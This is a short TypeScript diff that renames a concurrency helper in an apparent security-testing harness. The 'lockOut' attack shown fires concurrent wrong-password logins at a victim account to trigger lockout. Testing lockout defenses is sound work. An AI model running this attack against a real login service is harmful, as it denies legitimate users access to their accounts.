@@ -1,5 +1,5 @@
 import { setTimeout as sleep } from 'node:timers/promises';
-import { type Attack, answerCounter, atOnce } from './attack';
+import { type Attack, answerCounter, repeatConcurrently } from './attack';
 import { passwordLogin } from './raw-login';
 
 const CONCURRENCY = 10;
@@ -12,7 +12,7 @@ export const lockOut = (victim: string): Attack => ({
   async run({ portal: { address }, until }) {
     const { answers, add } = answerCounter();
     let guess = 0;
-    await atOnce(CONCURRENCY, until, async (index) => {
+    await repeatConcurrently(CONCURRENCY, until, async (index) => {
       guess++;
       const loginId = index % 2 ? victim : `guess${guess}`;
       add((await passwordLogin(address, loginId, `Wrong.Pass${guess}`, { localAddress: ATTACKER })).status || 'closed');
